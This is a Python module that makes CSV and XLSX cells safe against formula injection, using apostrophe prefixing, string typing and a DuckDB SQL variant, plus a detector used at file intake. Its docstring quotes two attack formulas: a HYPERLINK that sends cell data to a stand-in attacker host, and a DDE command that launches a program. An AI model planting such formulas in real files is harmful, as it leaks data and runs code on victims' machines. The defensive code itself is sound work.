"""Formula injection: the one place that makes spreadsheet cells safe to open, and spots them.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading the rest) is run as a formula by Excel, WPS and LibreOffice
when a CSV or XLSX file is opened: ``=HYPERLINK("http://evil.example/?"&A1, "点击")`` sends data
away, ``=cmd|' /C calc'!A0`` runs a program. Every CSV and XLSX file the platform writes passes
its text cells through :func:`neutralise`, which puts the customary apostrophe in front
(``'=HYPERLINK(…)``): the spreadsheet then shows the text, and gongxin's intake removes the
apostrophe again when the file is resubmitted.

Numbers are left alone: a number stored as a number (``-5``, ``Decimal("-1.5")``) is not text,
and a text that is a plain number (``"-12.5"``, ``"+86"``) cannot run either, so negative
amounts stay usable in a spreadsheet. In XLSX, text cells are also typed as strings, so that
openpyxl never writes them as formulas.

:func:`is_formula_like` is what intake uses to flag such cells in submitted files.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell, WriteOnlyCell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FIRST_CHARACTERS = frozenset("=+-@\t\r")  # a cell starting otherwise is always safe
_FIRST = FIRST_CHARACTERS
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_SQL_NUMBER = r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` as a formula (a plain number would not)."""
    return bool(text) and text[0] in _FIRST and _PLAIN_NUMBER.fullmatch(text) is None


def neutralise(value: Any) -> Any:
    """``value`` as a safe cell: formula-like text gets a leading apostrophe; anything else
    (numbers, dates, None, ordinary text) is returned unchanged."""
    if type(value) is str and value and value[0] in _FIRST and is_formula_like(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> str:
    """A CSV cell: None as empty, formula-like text neutralised, numbers as written."""
    if value is None:
        return ""
    return neutralise(value) if type(value) is str else str(value)


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into a normal worksheet: text neutralised and typed as a string."""
    cell: Cell = ws.cell(row=row, column=column)
    safe = neutralise(value)
    cell.value = safe
    if isinstance(safe, str) and cell.data_type != "s":
        cell.data_type = "s"
    return cell


def write_only_cell(sheet: Any, value: Any, **style: Any) -> WriteOnlyCell | Any:
    """A cell for a write-only worksheet: text neutralised and typed as a string; other values
    (numbers, dates, None) as they are, so that numbers stay numbers."""
    from openpyxl.cell import WriteOnlyCell

    safe = neutralise(value)
    if not isinstance(safe, str) and not style:
        return safe
    cell = WriteOnlyCell(sheet, value=safe)
    if isinstance(safe, str):
        cell.data_type = "s"
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` of a write-only worksheet (see :func:`write_only_cell`)."""
    return [write_only_cell(sheet, v) for v in values]


def duckdb_text(column: str) -> str:
    """SQL (DuckDB) for the neutralised text of ``column``, for files written with COPY."""
    return (
        f"CASE WHEN regexp_matches({column}, '^[-=+@\\t\\r]')"
        f" AND NOT regexp_full_match({column}, '{_SQL_NUMBER}')"
        f" THEN '''' || {column} ELSE {column} END"
    )
